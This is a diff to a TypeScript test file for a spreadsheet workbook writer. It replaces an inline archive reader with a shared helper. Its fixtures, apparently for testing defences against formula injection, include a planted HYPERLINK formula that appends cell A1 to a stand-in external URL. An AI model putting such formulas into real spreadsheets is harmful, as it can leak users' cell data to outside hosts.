@@ -1,6 +1,5 @@
-import { inflateRawSync } from "node:zlib";
 import { beforeAll, describe, expect, it } from "vitest";
-import { entriesOf } from "../files/parts/zip-entries";
+import { workbookParts } from "../testing/workbook-parts";
 import type { SheetCell } from "./parts/workbook";
 import { writeWorkbook } from "./write-workbook";
 
@@ -10,17 +9,12 @@ const planted = prefixes.map((sign) => `${sign}HYPERLINK("http://例.test/"&A1,"
 const odd = ["_x003D_1+1", "<b>&amp;\"'</b>", " 两端有空格 ", "𠮷\u0007\ud800尾"];
 const columns = 15;
 
-/** The parts of a workbook, read by our own reader of archives and not by the package that wrote it. */
-async function partsOf(rows: SheetCell[][]): Promise<Map<string, string>> {
-  const bytes = await writeWorkbook([
-    { name: "案件", notes: ["=NOW()"], head: ["=HEAD()"], widths: rows[0]?.map(() => 12) ?? [], rows },
-  ]);
-  const entries = entriesOf(bytes);
-  if (!entries) throw new Error("no archive");
-  return new Map(
-    entries.map(({ name, method, data }) => [name, (method === 8 ? inflateRawSync(data) : data).toString("utf8")]),
+const partsOf = async (rows: SheetCell[][]): Promise<ReadonlyMap<string, string>> =>
+  workbookParts(
+    await writeWorkbook([
+      { name: "案件", notes: ["=NOW()"], head: ["=HEAD()"], widths: rows[0]?.map(() => 12) ?? [], rows },
+    ]),
   );
-}
 const unescaped = (text: string) =>
   text.replace(
     /&(#x?[0-9A-Fa-f]+|\w+);/g,
@@ -29,7 +23,7 @@ const unescaped = (text: string) =>
       (word.startsWith("#") ? String.fromCodePoint(Number(word.replace("#x", "0x").replace("#", ""))) : all),
   );
 
-let parts: Map<string, string>;
+let parts: ReadonlyMap<string, string>;
 let cells: string[];
 beforeAll(async () => {
   parts = await partsOf([
